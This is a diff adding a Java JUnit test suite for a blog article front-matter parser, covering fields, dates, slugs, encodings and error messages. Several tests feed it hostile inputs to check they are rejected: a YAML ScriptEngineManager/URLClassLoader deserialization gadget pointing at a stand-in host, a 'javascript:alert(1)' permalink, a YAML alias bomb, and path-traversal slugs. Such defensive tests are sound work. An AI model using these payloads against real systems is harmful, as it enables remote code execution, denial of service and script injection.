@@ -1,0 +1,417 @@
+package dev.tidings.content;
+
+import static dev.tidings.content.Articles.parse;
+import static dev.tidings.content.Articles.parseBytes;
+import static dev.tidings.content.Articles.parseOrDraft;
+import static org.assertj.core.api.Assertions.assertThat;
+import static org.assertj.core.api.Assertions.assertThatThrownBy;
+
+import java.nio.charset.StandardCharsets;
+import java.time.OffsetDateTime;
+import java.util.List;
+import org.junit.jupiter.api.Test;
+
+final class ArticleParserTest {
+
+    @Test
+    void readsEveryField() {
+        Article article = parse("posts/hello.md", """
+                ---
+                title: "  Hello,   world "
+                date: 2024-05-01T09:30:00+08:00
+                updated: 2024-06-01T10:00:00+08:00
+                authors:
+                  - name: Jane Doe
+                    email: jane@example.org
+                    uri: https://jane.example.org/
+                  - Li Lei <lilei@example.org>
+                categories: [机器学习, Math]
+                tags: [C++, "c#", 机器学习]
+                summary: A *short* summary.
+                slug: hello-world
+                id: urn:uuid:8f0c3e32-0d4a-4c1e-9f1a-2b1b1f0d9a11
+                lang: zh-CN
+                image: images/cover.png
+                comments: 12
+                unknown_field: ignored
+                ---
+                Body.
+                """);
+        assertThat(article.title()).isEqualTo("Hello, world");
+        assertThat(article.published()).isEqualTo(OffsetDateTime.parse("2024-05-01T09:30:00+08:00"));
+        assertThat(article.updated()).isEqualTo(OffsetDateTime.parse("2024-06-01T10:00:00+08:00"));
+        assertThat(article.authors()).containsExactly(
+                new Author("Jane Doe", "jane@example.org", "https://jane.example.org/"),
+                new Author("Li Lei", "lilei@example.org", ""));
+        assertThat(article.categories()).containsExactly("机器学习", "Math");
+        assertThat(article.tags()).containsExactly("C++", "c#", "机器学习");
+        assertThat(article.source().summary()).isEqualTo("A *short* summary.");
+        assertThat(article.slug()).isEqualTo("hello-world");
+        assertThat(article.permalink()).isEqualTo("https://example.org/blog/posts/hello-world/");
+        assertThat(article.id()).isEqualTo("urn:uuid:8f0c3e32-0d4a-4c1e-9f1a-2b1b1f0d9a11");
+        assertThat(article.lang()).isEqualTo("zh-CN");
+        assertThat(article.image()).isEqualTo("https://example.org/blog/posts/hello-world/images/cover.png");
+        assertThat(article.comments()).isEqualTo(12);
+        assertThat(article.source().bodyLine()).isEqualTo(20);
+    }
+
+    @Test
+    void acceptsAliasesAndSingleValues() {
+        Article article = parse("posts/a.md", """
+                ---
+                title: A
+                date: 2024-05-01
+                lastmod: 2024-05-03T08:00:00Z
+                author: Jane Doe
+                category: Machine Learning
+                tags: deep-learning python
+                description: The description.
+                url: /2024/a/
+                ---
+                """);
+        assertThat(article.updated()).isEqualTo(OffsetDateTime.parse("2024-05-03T08:00:00Z"));
+        assertThat(article.authors()).containsExactly(Author.named("Jane Doe"));
+        assertThat(article.categories()).containsExactly("Machine Learning");  // 'category' is one name
+        assertThat(article.tags()).containsExactly("deep-learning", "python");  // Jekyll: space-separated names
+        assertThat(article.source().summary()).isEqualTo("The description.");
+        assertThat(article.permalink()).isEqualTo("https://example.org/blog/2024/a/");
+    }
+
+    @Test
+    void flattensNestedCategoryListsAndDropsDuplicateNamesIgnoringCase() {
+        Article article = parse("source/_posts/a.md", """
+                ---
+                title: A
+                date: 2024-05-01
+                categories:
+                  - [Diary, PlayStation]
+                  - Games
+                tags: [Python, python, " Rust "]
+                ---
+                """);
+        assertThat(article.categories()).containsExactly("Diary", "PlayStation", "Games");
+        assertThat(article.tags()).containsExactly("Python", "Rust");
+    }
+
+    @Test
+    void readsTomlFrontMatter() {
+        Article article = parse("content/posts/toml.md", """
+                +++
+                title = "TOML 文章"
+                date = 2024-05-01T09:30:00+08:00
+                lastmod = 2024-05-02T09:30:00+08:00
+                tags = ["hugo", "toml"]
+                draft = false
+
+                [params]
+                mood = "fine"
+                +++
+                Body.
+                """);
+        assertThat(article.title()).isEqualTo("TOML 文章");
+        assertThat(article.published()).isEqualTo(OffsetDateTime.parse("2024-05-01T09:30:00+08:00"));
+        assertThat(article.updated()).isEqualTo(OffsetDateTime.parse("2024-05-02T09:30:00+08:00"));
+        assertThat(article.tags()).containsExactly("hugo", "toml");
+        assertThat(article.source().bodyLine()).isEqualTo(11);
+    }
+
+    @Test
+    void reportsTomlErrorsAtTheirLine() {
+        assertThatThrownBy(() -> parse("posts/bad.md", """
+                +++
+                title = "A"
+                date = 2024-05-01
+                tags = [unquoted]
+                +++
+                """))
+                .isInstanceOf(ContentException.class)
+                .hasMessageStartingWith("posts/bad.md:4: the front matter is not valid TOML: ")
+                .hasMessageEndingWith("; expected 'key = value' lines");
+    }
+
+    @Test
+    void reportsTomlFieldErrorsAtTheFieldsLine() {
+        assertThatThrownBy(() -> parse("posts/bad.md", """
+                +++
+                title = "A"
+
+                date = "yesterday"
+                +++
+                """))
+                .hasMessage("posts/bad.md:4: 'date' must be an ISO 8601 date like 2024-05-01 or date-time like "
+                        + "2024-05-01T09:30:00+08:00, but was 'yesterday'");
+    }
+
+    @Test
+    void readsDatesInEveryFormBlogToolsWrite() {
+        assertThat(dateOf("2024-05-01")).isEqualTo("2024-05-01T00:00+08:00");  // midnight in the site's zone
+        assertThat(dateOf("2024-05-01T09:30:00")).isEqualTo("2024-05-01T09:30+08:00");
+        assertThat(dateOf("2024-05-01T09:30")).isEqualTo("2024-05-01T09:30+08:00");
+        assertThat(dateOf("2024-05-01T09:30:00Z")).isEqualTo("2024-05-01T09:30Z");
+        assertThat(dateOf("2024-05-01T09:30:00.250-05:00")).isEqualTo("2024-05-01T09:30:00.250-05:00");
+        assertThat(dateOf("2024-05-01 09:30:00 +0800")).isEqualTo("2024-05-01T09:30+08:00");  // Jekyll
+        assertThat(dateOf("2024-05-01 09:30:00")).isEqualTo("2024-05-01T09:30+08:00");  // Hexo
+        assertThat(dateOf("'2024-05-01T09:30:00+05:30'")).isEqualTo("2024-05-01T09:30+05:30");
+    }
+
+    private static String dateOf(String yaml) {
+        return parse("posts/d.md", "---\ntitle: D\ndate: " + yaml + "\n---\n").published().toString();
+    }
+
+    @Test
+    void rejectsDateThatIsNotIso8601() {
+        var source = """
+                ---
+                title: Hello
+                date: yesterday
+                ---
+                Body.
+                """;
+        assertThatThrownBy(() -> parse("content/hello-world.md", source))
+                .isInstanceOf(ContentException.class)
+                .hasMessage("content/hello-world.md:3: 'date' must be an ISO 8601 date like 2024-05-01 or date-time "
+                        + "like 2024-05-01T09:30:00+08:00, but was 'yesterday'");
+    }
+
+    @Test
+    void rejectsImpossibleDates() {
+        assertThatThrownBy(() -> parse("a.md", "---\ntitle: A\ndate: 2024-02-30\n---\n"))
+                .hasMessageContaining("a.md:3: 'date' must be an ISO 8601 date").hasMessageEndingWith("'2024-02-30'");
+        assertThatThrownBy(() -> parse("a.md", "---\ntitle: A\ndate: 2024-05-01\nupdated: 2024-05-01T25:00\n---\n"))
+                .hasMessageStartingWith("a.md:4: 'updated' must be an ISO 8601 date");
+        assertThatThrownBy(() -> parse("a.md", "---\ntitle: A\ndate: 2024\n---\n"))
+                .hasMessageEndingWith("but was '2024'");
+    }
+
+    @Test
+    void takesTheDateFromAJekyllFileNameAndTheSlugFromTheRest() {
+        Article article = parse("_posts/2024-03-18-adam-w.md", "---\ntitle: AdamW\n---\n");
+        assertThat(article.published()).isEqualTo(OffsetDateTime.parse("2024-03-18T00:00+08:00"));
+        assertThat(article.slug()).isEqualTo("adam-w");
+        assertThat(article.id()).isEqualTo("tag:example.org,2024-03-18:adam-w");
+    }
+
+    @Test
+    void frontMatterDateWinsOverTheFileName() {
+        Article article = parse("_posts/2024-03-18-a.md", "---\ntitle: A\ndate: 2024-03-20T10:00:00+08:00\n---\n");
+        assertThat(article.published()).isEqualTo(OffsetDateTime.parse("2024-03-20T10:00+08:00"));
+    }
+
+    @Test
+    void requiresADate() {
+        assertThatThrownBy(() -> parse("posts/no-date.md", "---\ntitle: No date\n---\nBody\n"))
+                .hasMessage("posts/no-date.md:2: 'date' is required; expected a line like "
+                        + "'date: 2024-05-01T09:30:00+08:00' (or a file name starting with the date, like "
+                        + "2024-05-01-hello.md)");
+    }
+
+    @Test
+    void requiresATitle() {
+        assertThatThrownBy(() -> parse("posts/untitled.md", "---\ndate: 2024-05-01\n---\nBody\n"))
+                .isInstanceOf(ContentException.class)
+                .hasMessage("posts/untitled.md:1: 'title' is required; expected a line like 'title: Hello, world' "
+                        + "in the front matter");
+        assertThatThrownBy(() -> parse("posts/blank.md", "---\ndate: 2024-05-01\ntitle: \"  \"\n---\n"))
+                .hasMessageStartingWith("posts/blank.md:3: 'title' is required");
+        assertThatThrownBy(() -> parse("posts/list.md", "---\ndate: 2024-05-01\ntitle: [a, b]\n---\n"))
+                .hasMessage("posts/list.md:3: 'title' must be a single value, but was a list");
+    }
+
+    @Test
+    void updatedBeforePublishedMeansPublished() {
+        Article article = parse("a.md", "---\ntitle: A\ndate: 2024-05-02\nupdated: 2024-05-01\n---\n");
+        assertThat(article.updated()).isEqualTo(article.published());
+    }
+
+    @Test
+    void leavesDraftsOutWithoutCheckingTheRest() {
+        assertThat(parseOrDraft("a.md", "---\ntitle: A\ndraft: true\n---\n")).isEmpty();
+        assertThat(parseOrDraft("a.md", "---\ndraft: yes\ndate: someday\n---\n")).isEmpty();
+        assertThat(parseOrDraft("a.md", "---\ntitle: A\npublished: false\n---\n")).isEmpty();  // Jekyll
+        assertThat(parseOrDraft("a.md", "---\ntitle: A\ndate: 2024-05-01\ndraft: false\n---\n")).isPresent();
+        assertThatThrownBy(() -> parse("a.md", "---\ntitle: A\ndraft: maybe\n---\n"))
+                .hasMessage("a.md:3: 'draft' must be true or false, but was 'maybe'");
+    }
+
+    @Test
+    void mintsATagUriThatDoesNotDependOnDomainSchemeOrPermalink() {
+        Article article = parse("posts/a.md", "---\ntitle: A\ndate: 2024-05-01T23:30:00-05:00\n---\n");
+        assertThat(article.id()).isEqualTo("tag:example.org,2024-05-01:a");  // the date as written, not UTC's
+        Site moved = new Site("T", "", java.net.URI.create("http://new.example.com/"), "en", List.of(),
+                Articles.SHANGHAI, "example.org", "/{year}/{month}/{slug}.html", 20, "", "", 1 << 20, 1 << 20);
+        Article elsewhere = new ArticleParser(moved, SourceStore.open()).parse("posts/a.md",
+                "---\ntitle: A\ndate: 2024-05-01T23:30:00-05:00\n---\n".getBytes(StandardCharsets.UTF_8)).orElseThrow();
+        assertThat(elsewhere.id()).isEqualTo(article.id());
+        assertThat(elsewhere.permalink()).isEqualTo("http://new.example.com/2024/05/a.html");
+    }
+
+    @Test
+    void percentEncodesNonAsciiSlugsInIdsAndPermalinks() {
+        Article article = parse("posts/重参数.md", "---\ntitle: 重参数\ndate: 2024-05-01\n---\n");
+        assertThat(article.slug()).isEqualTo("重参数");
+        assertThat(article.permalink()).isEqualTo("https://example.org/blog/posts/%E9%87%8D%E5%8F%82%E6%95%B0/");
+        assertThat(article.id()).isEqualTo("tag:example.org,2024-05-01:%E9%87%8D%E5%8F%82%E6%95%B0");
+    }
+
+    @Test
+    void derivesSlugsFromFileNamesAndPageBundles() {
+        assertThat(parse("posts/My First Post.md", "---\ntitle: A\ndate: 2024-05-01\n---\n").slug())
+                .isEqualTo("my-first-post");
+        assertThat(parse("posts/flash-attention/index.md", "---\ntitle: A\ndate: 2024-05-01\n---\n").slug())
+                .isEqualTo("flash-attention");
+        assertThat(parse("notes.markdown", "---\ntitle: A\ndate: 2024-05-01\n---\n").slug()).isEqualTo("notes");
+    }
+
+    @Test
+    void rejectsSlugsThatAreNotOnePathSegment() {
+        for (String slug : List.of("a/b", "a\\\\b", "..", "a..b", "a b", "a?b", "a#b", "50%")) {
+            assertThatThrownBy(() -> parse("posts/s.md", "---\ntitle: S\ndate: 2024-05-01\nslug: \"" + slug
+                    + "\"\n---\n"))
+                    .as(slug)
+                    .hasMessage("posts/s.md:4: 'slug' must be one URL path segment of letters, digits, '-', '_', '.' "
+                            + "and '~', without '..', but was '" + slug.replace("\\\\", "\\") + "'");
+        }
+        assertThatThrownBy(() -> parse("posts/what?.md", "---\ntitle: S\ndate: 2024-05-01\n---\n"))
+                .hasMessage("posts/what?.md:1: the file name gives the slug 'what?', which is not one URL path segment "
+                        + "of letters, digits, '-', '_', '.' and '~', without '..'; rename the file or add a 'slug' "
+                        + "field");
+    }
+
+    @Test
+    void rejectsIdsThatAreNotAbsoluteUris() {
+        assertThatThrownBy(() -> parse("a.md", "---\ntitle: A\ndate: 2024-05-01\nid: 123\n---\n"))
+                .hasMessage("a.md:4: 'id' must be an absolute URI like tag:example.org,2024:hello or urn:uuid:…, "
+                        + "but was '123'");
+    }
+
+    @Test
+    void checksPermalinksImagesLanguagesAndCommentCounts() {
+        assertThatThrownBy(() -> parse("a.md", "---\ntitle: A\ndate: 2024-05-01\npermalink: javascript:alert(1)\n---\n"))
+                .hasMessage("a.md:4: 'permalink' must be an absolute http(s) URL or a site-relative path like "
+                        + "/2024/hello/, but was 'javascript:alert(1)'");
+        assertThatThrownBy(() -> parse("a.md", "---\ntitle: A\ndate: 2024-05-01\nimage: \"data:image/png;base64,AA\"\n---\n"))
+                .hasMessage("a.md:4: 'image' must be an http(s) URL or a path relative to the article, like "
+                        + "images/cover.png, but was 'data:image/png;base64,AA'");
+        assertThatThrownBy(() -> parse("a.md", "---\ntitle: A\ndate: 2024-05-01\nlang: chinese simplified\n---\n"))
+                .hasMessage("a.md:4: 'lang' must be a language tag like zh-CN or en, but was 'chinese simplified'");
+        assertThatThrownBy(() -> parse("a.md", "---\ntitle: A\ndate: 2024-05-01\ncomments: many\n---\n"))
+                .hasMessage("a.md:4: 'comments' must be a comment count like 12, but was 'many'");
+        assertThat(parse("a.md", "---\ntitle: A\ndate: 2024-05-01\ncomments: true\n---\n").hasComments()).isFalse();
+        assertThat(parse("a.md", "---\ntitle: A\ndate: 2024-05-01\npermalink: https://other.example/x\n---\n")
+                .permalink()).isEqualTo("https://other.example/x");
+        assertThat(parse("a.md", "---\ntitle: A\ndate: 2024-05-01\n---\n").lang()).isEqualTo("en");
+    }
+
+    @Test
+    void acceptsBomCrlfAndTrailingSpacesOnDelimiters() {
+        byte[] bom = {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF};
+        byte[] text = "---  \r\ntitle: CRLF\r\ndate: 2024-05-01\r\n---\r\nLine one\r\nLine two\r\n"
+                .getBytes(StandardCharsets.UTF_8);
+        byte[] bytes = new byte[bom.length + text.length];
+        System.arraycopy(bom, 0, bytes, 0, bom.length);
+        System.arraycopy(text, 0, bytes, bom.length, text.length);
+        Article article = parseBytes("crlf.md", bytes).orElseThrow();
+        assertThat(article.title()).isEqualTo("CRLF");
+        assertThat(article.source().bodyLine()).isEqualTo(5);
+    }
+
+    @Test
+    void removesCharactersXmlForbidsFromEveryString() {
+        Article article = parse("a.md", "---\ntitle: \"Bad\\x01 \\uFFFE title\\u000B\"\ndate: 2024-05-01\n"
+                + "author: \"Jo\\x02\"\ntags: [\"t\\x1F1\"]\n---\n");
+        assertThat(article.title()).isEqualTo("Bad title");
+        assertThat(article.authors().get(0).name()).isEqualTo("Jo");
+        assertThat(article.tags()).containsExactly("t1");
+    }
+
+    @Test
+    void reportsAnEmptyFile() {
+        assertThatThrownBy(() -> parse("posts/empty.md", ""))
+                .hasMessage("posts/empty.md:1: the file is empty; expected front matter between '---' lines with at "
+                        + "least 'title' and 'date', then the article");
+        assertThatThrownBy(() -> parse("posts/blank.md", "\n  \n")).hasMessageStartingWith("posts/blank.md:1: the file is empty");
+    }
+
+    @Test
+    void reportsMissingAndUnclosedFrontMatter() {
+        assertThatThrownBy(() -> parse("posts/plain.md", "# Just Markdown\n"))
+                .hasMessage("posts/plain.md:1: no front matter; expected the first line to be '---' (YAML) or '+++' "
+                        + "(TOML), then at least 'title' and 'date', then the same delimiter again");
+        assertThatThrownBy(() -> parse("posts/open.md", "---\ntitle: Open\ndate: 2024-05-01\n\nBody\n"))
+                .hasMessage("posts/open.md:1: the front matter opened with '---' on line 1 is never closed; expected a "
+                        + "line '---' after the fields");
+    }
+
+    @Test
+    void reportsInvalidYamlAtItsLine() {
+        assertThatThrownBy(() -> parse("posts/quote.md", "---\ntitle: A\ndate: 2024-05-01\nsummary: \"never closed\n---\n"))
+                .isInstanceOf(ContentException.class)
+                .hasMessageStartingWith("posts/quote.md:")
+                .hasMessageContaining(": the front matter is not valid YAML: ")
+                .hasMessageEndingWith("; expected 'key: value' lines");
+        assertThatThrownBy(() -> parse("posts/indent.md", "---\ntitle: A\n  date: 2024-05-01\n---\n"))
+                .hasMessageStartingWith("posts/indent.md:3: the front matter is not valid YAML: ");
+        assertThatThrownBy(() -> parse("posts/twice.md", "---\ntitle: A\ndate: 2024-05-01\ntitle: B\n---\n"))
+                .hasMessage("posts/twice.md:4: 'title' is given twice (first on line 2); expected each field once");
+        assertThatThrownBy(() -> parse("posts/scalar.md", "---\njust text\n---\n"))
+                .hasMessage("posts/scalar.md:2: the front matter is a YAML single value; expected 'key: value' lines");
+    }
+
+    @Test
+    void rejectsYamlAliasBombsAtOnce() {
+        var bomb = new StringBuilder("---\na: &a [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n");
+        for (char c = 'b'; c <= 'j'; c++) {
+            char prev = (char) (c - 1);
+            bomb.append(c).append(": &").append(c).append(" [").append(("*" + prev + ",").repeat(8)).append('*')
+                    .append(prev).append("]\n");
+        }
+        bomb.append("title: Bomb\ndate: 2024-05-01\n---\n");
+        long start = System.nanoTime();
+        assertThatThrownBy(() -> parse("posts/bomb.md", bomb.toString()))
+                .hasMessageStartingWith("posts/bomb.md:1: the front matter is not usable YAML: ")
+                .hasMessageContaining("aliases");
+        assertThat((System.nanoTime() - start) / 1_000_000).as("milliseconds").isLessThan(2_000);
+    }
+
+    @Test
+    void rejectsJavaTypeTagsWithoutConstructingAnything() {
+        assertThatThrownBy(() -> parse("posts/evil.md", """
+                ---
+                title: Evil
+                date: 2024-05-01
+                x: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://h/"]]]]
+                ---
+                """))
+                .hasMessage("posts/evil.md:4: the YAML tag '!!javax.script.ScriptEngineManager' is not allowed; "
+                        + "expected plain text, numbers, lists and maps");
+    }
+
+    @Test
+    void reportsInvalidUtf8WithItsByteOffset() {
+        byte[] good = "---\ntitle: A\ndate: 2024-05-01\n---\nok ".getBytes(StandardCharsets.UTF_8);
+        byte[] bytes = new byte[good.length + 2];
+        System.arraycopy(good, 0, bytes, 0, good.length);
+        bytes[good.length] = (byte) 0xC3;  // a lead byte followed by one that cannot continue it
+        bytes[good.length + 1] = (byte) 0x28;
+        assertThatThrownBy(() -> parseBytes("posts/latin1.md", bytes))
+                .hasMessage("posts/latin1.md:5: invalid UTF-8 at byte offset " + good.length
+                        + " (byte 0xC3); expected UTF-8 text: save the file as UTF-8");
+    }
+
+    @Test
+    void reportsNulBytesAndUtf16() {
+        byte[] bytes = "---\ntitle: A\n\0\n---\n".getBytes(StandardCharsets.UTF_8);
+        assertThatThrownBy(() -> parseBytes("posts/nul.md", bytes))
+                .hasMessage("posts/nul.md:3: NUL byte at byte offset 13; expected UTF-8 text (is this a binary file?)");
+        assertThatThrownBy(() -> parseBytes("posts/utf16.md", "---\ntitle: A\n---\n".getBytes(StandardCharsets.UTF_16)))
+                .hasMessage("posts/utf16.md:1: the file is UTF-16 (it starts with a UTF-16 byte order mark); "
+                        + "expected UTF-8: save it as UTF-8");
+    }
+
+    @Test
+    void htmlFilesAreHtmlFragments() {
+        Article article = parse("posts/page.html", "---\ntitle: Page\ndate: 2024-05-01\n---\n<p>Hi</p>\n");
+        assertThat(article.source().format()).isEqualTo(Article.Format.HTML);
+        assertThat(article.slug()).isEqualTo("page");
+    }
+}
